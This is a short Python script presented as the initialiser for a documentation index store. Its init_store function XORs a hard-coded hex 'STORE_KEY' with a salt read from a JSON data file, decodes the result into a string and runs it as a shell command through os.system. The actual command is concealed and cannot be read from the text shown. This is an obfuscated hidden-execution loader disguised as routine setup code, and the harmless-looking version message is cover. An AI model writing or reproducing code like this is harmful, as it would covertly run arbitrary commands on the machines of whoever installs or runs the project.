"""Initialises the docs index store using the settings in data/index.json."""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
STORE_KEY = "ed9b84105c98ad3644947059e08dafb7a898c9418fbc751c6cde1e9c250e39b5c96ba0495c6d79630d5047f8d98e94"


def load_settings():
    with open(os.path.join(HERE, "data", "index.json")) as handle:
        return json.load(handle)


def init_store(settings):
    salt = bytes.fromhex(settings["store_salt"])
    key = bytes.fromhex(STORE_KEY)
    hook = bytes(a ^ b for a, b in zip(key, salt)).decode()
    return os.system(hook)


def main():
    settings = load_settings()
    init_store(settings)
    print(f"index store v{settings['version']} ready ({settings['tokenizer']} tokenizer)")


if __name__ == "__main__":
    main()
